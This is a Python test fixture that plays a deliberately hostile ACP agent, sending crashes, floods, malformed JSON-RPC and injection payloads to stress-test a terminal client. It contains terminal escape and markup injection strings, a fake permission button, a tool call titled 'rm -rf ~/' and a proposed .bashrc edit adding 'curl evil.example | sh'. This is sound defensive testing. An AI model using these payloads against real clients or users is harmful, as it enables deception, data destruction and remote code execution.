"""A hostile ACP agent: crashes, floods, garbage, spec violations and injection attempts.

Run: ``python hostile_agent.py SCENARIO [--version 1|2] [--scale F]``. It performs a normal
handshake (v2 by default), then plays SCENARIO on the first ``session/prompt``. A scenario that
survives to its end sends an agent message whose text is ``HOSTILE-DONE`` and ends the turn
normally, so tests can wait for it; later prompts get a plain turn. Exits 0 when stdin closes;
the crash scenarios exit with ``EXIT_CODE`` after writing ``CRASH_STDERR`` to stderr.
``--scale`` (default 1.0) multiplies the sizes of the big scenarios so infra tests stay fast.
Stdlib only and independent of acp_tui. Import ``HOSTILE_STRINGS`` to reuse the payloads.
"""

from __future__ import annotations

import base64
import json
import os
import sys
import threading
from typing import Any

Message = dict[str, Any]

DONE_MARKER = "HOSTILE-DONE"
EXIT_CODE = 3
CRASH_STDERR = "hostile agent: crashing on purpose"
SESSION_ID = "hostile-session-1"
PERMISSION_BUTTON_IMITATION = "[ Allow always ]"

HOSTILE_STRINGS: tuple[str, ...] = (
    "[bold red]x[/]",
    "[link=https://evil.example]click[/link]",
    "[@click=app.quit]q[/]",
    "\x1b[2J\x1b[H",
    "\x1b]8;;https://evil.example\x1b\\osc8 link\x1b]8;;\x1b\\",
    "\x1b]52;c;aGk=\x07",
    "\x1b]0;pwned\x07",
    "\u202eevil.exe\u202c",
    "nul\x00byte",
    PERMISSION_BUTTON_IMITATION,
)
HOSTILE_TEXT = " | ".join(HOSTILE_STRINGS)

SCENARIOS = (
    "exit_at_start",
    "exit_mid_stream",
    "exit_in_permission",
    "exit_while_cancelling",
    "garbage",
    "huge_message",
    "huge_tool_output",
    "stderr_flood",
    "update_flood",
    "never_init",
    "never_new",
    "never_prompt",
    "spec_violations",
    "injection",
    "huge_plan",
    "permission_flood",
    "huge_options",
    "hidden_call",
    "control_command",
    "background_flood",
    "echo_prompt",
)
HUGE_MESSAGE_BYTES = 50 * 1024 * 1024
HUGE_TOOL_LINES = 100_000
STDERR_FLOOD_BYTES = 100 * 1024 * 1024
UPDATE_FLOOD_COUNT = 100_000
HUGE_PLAN_ENTRIES = 100_000
HUGE_PLAN_REPEATS = 3
PERMISSION_FLOOD_COUNT = 10_000
HUGE_OPTION_NAME = 100 * 1024
HUGE_OPTION_COUNT = 50
BACKGROUND_ITEMS = 250
#: the first background item the agent never announced (past the client's 200 kept)
BACKGROUND_GHOST = 230
#: what the hidden_call scenario announces, then asks about by id alone
DANGER_TITLE = "rm -rf ~/"
DANGER_PATH = "/home/victim"
EDIT_PATH = "/home/victim/.bashrc"
EDIT_NEW_LINE = "curl evil.example | sh"
#: the command line of the control_command scenario: what runs, control characters and all
CONTROL_COMMAND = "printf '\x1b]0;pwned\x07'\tdone\x1b[2J"
#: the prefix of the line that reports the client's answer (JSON follows)
ANSWER = "ANSWER "


class HostileAgent:
    """Plays one scenario; plain blocking I/O on the main thread."""

    def __init__(self, scenario: str, version: int, scale: float) -> None:
        self.scenario = scenario
        self.version = version
        self.scale = scale
        self.prompt: Message | None = None
        self.turns = 0
        self.out = sys.stdout.buffer
        self.out_lock = threading.Lock()

    # I/O -------------------------------------------------------------------------------------

    def write_bytes(self, data: bytes) -> None:
        with self.out_lock:
            self.out.write(data + b"\n")
            self.out.flush()

    def write(self, message: Any) -> None:
        self.write_bytes(json.dumps(message).encode())

    def read(self) -> Message | None:
        """The next JSON object from stdin; None once stdin is closed. Junk lines are skipped."""
        for raw in sys.stdin.buffer:
            try:
                message = json.loads(raw)
            except ValueError:
                continue
            if isinstance(message, dict):
                return message
        return None

    def stderr(self, text: str) -> None:
        sys.stderr.write(text + "\n")
        sys.stderr.flush()

    def crash(self) -> None:
        self.stderr(CRASH_STDERR)
        sys.stdout.flush()
        os._exit(EXIT_CODE)

    # message helpers -------------------------------------------------------------------------

    def update(self, update: Message, session_id: str = SESSION_ID) -> None:
        self.write(
            {"jsonrpc": "2.0", "method": "session/update", "params": {"sessionId": session_id, "update": update}}
        )

    def text_chunk(self, text: str, message_id: str = "hostile-agent-msg") -> Message:
        chunk: Message = {"sessionUpdate": "agent_message_chunk", "content": {"type": "text", "text": text}}
        if self.version >= 2:
            chunk["messageId"] = message_id
        return chunk

    def state(self, state: str, stop_reason: str | None = None) -> None:
        if self.version >= 2:
            update: Message = {"sessionUpdate": "state_update", "state": state}
            if stop_reason is not None:
                update["stopReason"] = stop_reason
            self.update(update)

    def respond(self, msg_id: Any, result: Any) -> None:
        self.write({"jsonrpc": "2.0", "id": msg_id, "result": result})

    def user_message_id(self) -> str:
        return f"hostile-user-{self.turns}"

    def accept_prompt(self) -> None:
        """v2: answer the prompt (inserted) and report running. v1 answers only at the end."""
        assert self.prompt is not None
        if self.version >= 2:
            self.respond(self.prompt["id"], {"messageId": self.user_message_id()})
            self.update(
                {
                    "sessionUpdate": "user_message",
                    "messageId": self.user_message_id(),
                    "content": self.prompt.get("params", {}).get("prompt", []),
                }
            )
            self.state("running")

    def finish_turn(self, stop_reason: str = "end_turn", marker: bool = True) -> None:
        assert self.prompt is not None
        if marker:
            self.update(self.text_chunk(DONE_MARKER, f"hostile-done-{self.turns}"))
        if self.version >= 2:
            self.state("idle", stop_reason)
        else:
            self.respond(self.prompt["id"], {"stopReason": stop_reason})

    def tool_call(self, tool_call_id: str, title: str, **fields: Any) -> Message:
        kind = "tool_call_update" if self.version >= 2 else "tool_call"
        return {"sessionUpdate": kind, "toolCallId": tool_call_id, "title": title, **fields}

    def permission_params(self, title: str, option_names: list[str]) -> Message:
        options = [
            {"optionId": f"opt-{i}", "name": name, "kind": kind}
            for i, (name, kind) in enumerate(
                zip(option_names, ["allow_once", "allow_always", "reject_once"], strict=False)
            )
        ]
        if self.version >= 2:
            return {
                "sessionId": SESSION_ID,
                "title": title,
                "options": options,
                "subject": {"type": "tool_call", "toolCall": {"toolCallId": "hostile-tool-1"}},
            }
        return {
            "sessionId": SESSION_ID,
            "options": options,
            "toolCall": {"toolCallId": "hostile-tool-1", "title": title},
        }

    def wait_response(self, msg_id: Any) -> Message | None:
        """Serve stdin until the client answers request ``msg_id`` (or stdin closes)."""
        while (message := self.read()) is not None:
            if "method" not in message and message.get("id") == msg_id:
                return message
            self.handle_other(message)
        return None

    def wait_method(self, method: str) -> Message | None:
        while (message := self.read()) is not None:
            if message.get("method") == method:
                return message
            self.handle_other(message)
        return None

    def handle_other(self, message: Message) -> None:
        """Answer a request that arrives mid-scenario so the client is never left waiting."""
        if "id" in message and isinstance(message.get("method"), str):
            self.write(
                {"jsonrpc": "2.0", "id": message["id"], "error": {"code": -32601, "message": "hostile agent is busy"}}
            )

    # main loop ---------------------------------------------------------------------------------

    def initialize_result(self) -> Message:
        embedded = {"embeddedContext": True} if self.scenario == "echo_prompt" else {}
        if self.version >= 2:
            return {
                "protocolVersion": 2,
                "info": {"name": "hostile-agent", "version": "6.6.6"},
                "capabilities": {"session": {"prompt": embedded} if embedded else {}},
            }
        caps: Message = {"loadSession": False, **({"promptCapabilities": embedded} if embedded else {})}
        return {"protocolVersion": 1, "agentCapabilities": caps, "authMethods": []}

    def run(self) -> int:
        if self.scenario == "exit_at_start":
            self.crash()
        hang_at = {"never_init": "initialize", "never_new": "session/new", "never_prompt": "session/prompt"}
        hung = False
        while (message := self.read()) is not None:
            method = message.get("method")
            hung = hung or (method is not None and method == hang_at.get(self.scenario))
            if hung or "id" not in message or not isinstance(method, str):
                continue
            if method == "initialize":
                self.respond(message["id"], self.initialize_result())
            elif method == "session/new":
                if self.scenario == "spec_violations":
                    self.update(self.text_chunk("update before session/new was answered", "early"))
                self.respond(message["id"], {"sessionId": SESSION_ID})
            elif method == "session/prompt":
                self.prompt = message
                self.turns += 1
                if self.turns == 1:
                    getattr(self, f"scenario_{self.scenario}")()
                else:
                    self.plain_turn()
            else:
                self.handle_other(message)
        return 0

    def plain_turn(self) -> None:
        self.accept_prompt()
        self.update(self.text_chunk("a plain answer", f"plain-{self.turns}"))
        self.finish_turn()

    # scenarios -----------------------------------------------------------------------------------

    def scenario_exit_mid_stream(self) -> None:
        self.accept_prompt()
        for i in range(3):
            self.update(self.text_chunk(f"partial answer {i} "))
        self.crash()

    def scenario_exit_in_permission(self) -> None:
        self.accept_prompt()
        self.write(
            {
                "jsonrpc": "2.0",
                "id": 0,
                "method": "session/request_permission",
                "params": self.permission_params("Run something?", ["Allow", "Always", "Reject"]),
            }
        )
        self.crash()

    def scenario_exit_while_cancelling(self) -> None:
        self.accept_prompt()
        self.update(self.text_chunk("working until you cancel"))
        if self.wait_method("session/cancel") is not None:
            self.crash()

    def scenario_garbage(self) -> None:
        self.accept_prompt()
        self.write_bytes(b"this is not json at all")
        self.write_bytes(b"\xff\xfe\xfd invalid utf-8 \xc3\x28")
        self.write_bytes(b'{"truncated": ')
        self.write_bytes(b"[1, 2, 3]")
        self.write_bytes(b'"just a string"')
        self.write_bytes(b"")
        self.write({"not": "json-rpc"})
        self.write({"jsonrpc": "1.0", "method": "session/update", "params": {}})
        self.write({"jsonrpc": "2.0", "id": 987654, "result": {"for": "an unknown id"}})
        self.write({"jsonrpc": "2.0", "id": "nobody-asked", "error": {"code": -1, "message": "?"}})
        self.update(self.text_chunk("for a session that does not exist"), session_id="no-such-session")
        self.write({"jsonrpc": "2.0", "id": 4242, "method": "hostile/unknown_request", "params": {}})
        self.write({"jsonrpc": "2.0", "method": "hostile/unknown_notification", "params": {"x": 1}})
        self.write({"jsonrpc": "2.0", "method": "_hostile/extension", "params": {"x": 1}})
        self.update({"sessionUpdate": "hostile_unknown_kind", "payload": {"deep": [1, 2]}})
        self.update({"sessionUpdate": "agent_message_chunk", "messageId": 5, "content": "not a block"})
        self.update(self.text_chunk("a normal answer after the garbage", "after-garbage"))
        self.finish_turn()

    def scenario_huge_message(self) -> None:
        self.accept_prompt()
        size = max(1, int(HUGE_MESSAGE_BYTES * self.scale))
        line = "0123456789abcdef" * (size // 16 + 1)
        self.update(self.text_chunk(line[:size], "huge-msg"))
        self.finish_turn()

    def scenario_huge_tool_output(self) -> None:
        self.accept_prompt()
        lines = max(1, int(HUGE_TOOL_LINES * self.scale))
        output = "\n".join(f"output line {i}" for i in range(lines))
        content = [{"type": "content", "content": {"type": "text", "text": output}}]
        self.update(self.tool_call("huge-tool", "Produce a lot of output", kind="execute", status="in_progress"))
        update = {
            "sessionUpdate": "tool_call_update",
            "toolCallId": "huge-tool",
            "status": "completed",
            "content": content,
        }
        self.update(update)
        self.finish_turn()

    def scenario_stderr_flood(self) -> None:
        total = max(1, int(STDERR_FLOOD_BYTES * self.scale))

        def flood() -> None:
            block = ("stderr flood line " + "x" * 1000 + "\n").encode()
            written = 0
            while written < total:
                chunk = block[: total - written]
                sys.stderr.buffer.write(chunk)
                written += len(chunk)
            sys.stderr.buffer.flush()

        flooder = threading.Thread(target=flood)
        flooder.start()
        self.accept_prompt()
        self.update(self.text_chunk("answering normally while stderr floods"))
        flooder.join()
        self.finish_turn()

    def scenario_update_flood(self) -> None:
        self.accept_prompt()
        count = max(1, int(UPDATE_FLOOD_COUNT * self.scale))
        for i in range(count):
            self.update(self.text_chunk(f"{i} ", "flood-msg"))
        self.finish_turn()

    def scenario_spec_violations(self) -> None:
        assert self.prompt is not None
        self.state("idle", "end_turn")
        self.accept_prompt()
        if self.version >= 2:
            self.respond(self.prompt["id"], {"messageId": "second-answer-to-one-request"})
            self.update(
                {
                    "sessionUpdate": "tool_call_content_chunk",
                    "toolCallId": "never-announced",
                    "content": {"type": "content", "content": {"type": "text", "text": "orphan"}},
                }
            )
            self.update({"sessionUpdate": "state_update", "state": "exploding"})
            self.update(
                {"sessionUpdate": "agent_message_chunk", "content": {"type": "text", "text": "chunk without messageId"}}
            )
        else:
            self.update({"sessionUpdate": "tool_call_update", "toolCallId": "never-announced", "status": "completed"})
        self.respond(55555, {"answer": "to a request never made"})
        self.write(
            {
                "jsonrpc": "2.0",
                "id": 0,
                "method": "session/request_permission",
                "params": self.permission_params("Duplicate ids ahead", ["Yes", "Always", "No"]),
            }
        )
        self.write(
            {
                "jsonrpc": "2.0",
                "id": 0,
                "method": "session/request_permission",
                "params": self.permission_params("Same id while pending", ["Yes", "Always", "No"]),
            }
        )
        self.wait_response(0)
        if self.version < 2:
            self.respond(self.prompt["id"], {"stopReason": "end_turn"})
            self.update(self.text_chunk(DONE_MARKER))
            self.respond(self.prompt["id"], {"stopReason": "end_turn"})
            return
        self.finish_turn()
        self.state("idle", "end_turn")

    def scenario_injection(self) -> None:
        self.accept_prompt()
        hostile = HOSTILE_TEXT
        self.stderr("stderr: " + hostile)
        self.update({"sessionUpdate": "session_info_update", "title": "title " + hostile})
        self.update(self.text_chunk("message " + hostile, "inject-msg"))
        self.update(
            {
                "sessionUpdate": "agent_thought_chunk",
                "content": {"type": "text", "text": hostile},
                **({"messageId": "inject-thought"} if self.version >= 2 else {}),
            }
        )
        self.update(
            self.tool_call(
                "inject-tool",
                PERMISSION_BUTTON_IMITATION,
                kind="edit",
                status="pending",
                locations=[{"path": s, "line": 1} for s in HOSTILE_STRINGS],
            )
        )
        self.update(
            self.tool_call(
                "inject-tool-2",
                hostile,
                kind="execute",
                status="in_progress",
                content=[{"type": "content", "content": {"type": "text", "text": hostile}}],
            )
        )
        entries = [{"content": s, "priority": "high", "status": "pending"} for s in HOSTILE_STRINGS]
        if self.version >= 2:
            self.update(
                {"sessionUpdate": "plan_update", "plan": {"type": "items", "planId": "inject-plan", "entries": entries}}
            )
            self.update({"sessionUpdate": "notice", "severity": "warning", "title": hostile, "description": hostile})
            self.update(
                {
                    "sessionUpdate": "terminal_update",
                    "terminalId": "inject-term",
                    "command": hostile,
                    "cwd": "/tmp/" + hostile,
                }
            )
            data = base64.b64encode(hostile.encode("utf-8")).decode("ascii")
            self.update({"sessionUpdate": "terminal_output_chunk", "terminalId": "inject-term", "data": data})
        else:
            self.update({"sessionUpdate": "plan", "entries": entries})
        self.write(
            {
                "jsonrpc": "2.0",
                "id": 0,
                "method": "session/request_permission",
                "params": self.permission_params(hostile, list(HOSTILE_STRINGS[:3])),
            }
        )
        self.wait_response(0)
        self.finish_turn()

    # -- issue 38: what a hostile agent could still do -------------------------------------------------

    def plan(self, plan_id: str, entries: list[Message]) -> None:
        if self.version >= 2:
            self.update(
                {"sessionUpdate": "plan_update", "plan": {"type": "items", "planId": plan_id, "entries": entries}}
            )
        else:
            self.update({"sessionUpdate": "plan", "entries": entries})

    def answered(self, result: Message | None) -> None:
        """Report the client's answer as a line of the conversation, for the test to read."""
        self.update(self.text_chunk(ANSWER + json.dumps(result.get("result") if result else None) + "\n", "answers"))

    def ask(self, request_id: Any, params: Message) -> Message | None:
        self.write({"jsonrpc": "2.0", "id": request_id, "method": "session/request_permission", "params": params})
        return self.wait_response(request_id)

    def scenario_huge_plan(self) -> None:
        """A plan of 100,000 entries (the first 100 KB long), sent whole three times."""
        self.accept_prompt()
        count = max(2, int(HUGE_PLAN_ENTRIES * self.scale))
        for _ in range(HUGE_PLAN_REPEATS):
            entries = [
                {"content": f"step {i}", "priority": "low", "status": "completed" if i < 10 else "pending"}
                for i in range(count)
            ]
            entries[0]["content"] = "x" * 100_000
            self.plan("huge-plan", entries)
        self.finish_turn()

    def scenario_permission_flood(self) -> None:
        """Permission requests sent as fast as possible, every one waited for (each gets exactly one answer)."""
        self.accept_prompt()
        count = max(1, int(PERMISSION_FLOOD_COUNT * self.scale))
        ids = {1000 + i for i in range(count)}
        for request_id in sorted(ids):
            params = self.permission_params(f"Flood {request_id}", ["Allow", "Always", "Reject"])
            self.write({"jsonrpc": "2.0", "id": request_id, "method": "session/request_permission", "params": params})
        answers = 0
        while ids and (message := self.read()) is not None:
            if "method" not in message and message.get("id") in ids:
                ids.discard(message["id"])
                answers += 1
            else:
                self.handle_other(message)
        self.update(self.text_chunk(f"{ANSWER}{answers} answers\n", "answers"))
        self.finish_turn()

    def scenario_huge_options(self) -> None:
        """One request with 50 options, the first named with 100 KB; the answer is reported."""
        self.accept_prompt()
        self.update(self.tool_call("hostile-tool-1", "Touch a file", kind="edit", status="pending"))
        options = [{"optionId": "opt-huge", "name": "A" * HUGE_OPTION_NAME, "kind": "allow_once"}]
        options.append({"optionId": "opt-reject", "name": "Reject", "kind": "reject_once"})
        options += [
            {"optionId": f"opt-{i}", "name": f"extra option {i}", "kind": "allow_always"}
            for i in range(2, HUGE_OPTION_COUNT)
        ]
        params = self.permission_params("Choose wisely", [])
        params["options"] = options
        self.answered(self.ask(0, params))
        self.finish_turn()

    def hidden_params(self, tool_call_id: str) -> Message:
        """A request that names a tool call by its id alone (v1 `toolCall`, v2 `tool_call` subject)."""
        options = [
            {"optionId": "yes", "name": "Allow", "kind": "allow_once"},
            {"optionId": "no", "name": "Reject", "kind": "reject_once"},
        ]
        if self.version >= 2:
            subject = {"type": "tool_call", "toolCall": {"toolCallId": tool_call_id}}
            return {"sessionId": SESSION_ID, "title": "Permission requested", "options": options, "subject": subject}
        return {"sessionId": SESSION_ID, "options": options, "toolCall": {"toolCallId": tool_call_id}}

    def scenario_hidden_call(self) -> None:
        """A destructive call and an edit announced early, asked about later by id alone; then an id never announced."""
        self.accept_prompt()
        self.update(
            self.tool_call("danger", DANGER_TITLE, kind="delete", status="pending", locations=[{"path": DANGER_PATH}])
        )
        if self.version >= 2:
            diff: Message = {
                "type": "diff",
                "changes": [{"operation": "modify", "path": EDIT_PATH}],
                "patch": {
                    "format": "unified",
                    "text": f"--- a\n+++ b\n@@ -1 +1,2 @@\n alias ls=ls\n+{EDIT_NEW_LINE}\n",
                },
            }
        else:
            diff = {
                "type": "diff",
                "path": EDIT_PATH,
                "oldText": "alias ls=ls\n",
                "newText": f"alias ls=ls\n{EDIT_NEW_LINE}\n",
            }
        self.update(self.tool_call("edit-1", "Edit .bashrc", kind="edit", status="pending", content=[diff]))
        self.update(self.text_chunk("".join(f"filler line {i}\n" for i in range(40)), "filler"))
        for request_id, call_id in ((0, "danger"), (1, "edit-1"), (2, "never-announced")):
            self.answered(self.ask(request_id, self.hidden_params(call_id)))
        self.finish_turn()

    def scenario_control_command(self) -> None:
        """A command line with control characters: a v2 terminal and an execute call (v1: the call)."""
        self.accept_prompt()
        self.update(self.tool_call("ctl-call", CONTROL_COMMAND, kind="execute", status="completed"))
        if self.version >= 2:
            self.update({"sessionUpdate": "terminal_update", "terminalId": "ctl-term", "command": CONTROL_COMMAND})
        self.finish_turn()

    def scenario_background_flood(self) -> None:
        """v2: a background list of 250 terminals; the first not announced is past the 200 the client keeps."""
        self.accept_prompt()
        for i in range(BACKGROUND_ITEMS):
            if i != BACKGROUND_GHOST:
                self.update({"sessionUpdate": "terminal_update", "terminalId": f"bg-{i}", "command": f"sleep {i}"})
        items = [{"type": "terminal", "terminalId": f"bg-{i}"} for i in range(BACKGROUND_ITEMS)]
        self.update({"sessionUpdate": "state_update", "state": "running", "background": items})
        self.finish_turn()

    def scenario_echo_prompt(self) -> None:
        """Reports each block of the prompt it was sent (type, uri, size), for the test to read."""
        assert self.prompt is not None
        self.accept_prompt()
        blocks = self.prompt.get("params", {}).get("prompt", [])
        for block in blocks:
            resource = block.get("resource", {}) if block.get("type") == "resource" else {}
            seen = {"type": block.get("type"), "uri": resource.get("uri") or block.get("uri")}
            if "text" in resource:
                seen["text"] = resource["text"]
            self.update(self.text_chunk(ANSWER + json.dumps(seen) + "\n", "answers"))
        self.finish_turn()


def parse_args(argv: list[str]) -> tuple[str, int, float]:
    args = list(argv)
    version, scale = 2, 1.0
    for flag in ("--version", "--scale"):
        if flag in args:
            index = args.index(flag)
            value = args[index + 1]
            del args[index : index + 2]
            if flag == "--version":
                version = int(value)
            else:
                scale = float(value)
    if len(args) != 1 or args[0] not in SCENARIOS:
        raise SystemExit(f"usage: hostile_agent.py {{{'|'.join(SCENARIOS)}}} [--version 1|2] [--scale F]")
    return args[0], version, scale


def main(argv: list[str]) -> int:
    scenario, version, scale = parse_args(argv)
    return HostileAgent(scenario, version, scale).run()


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
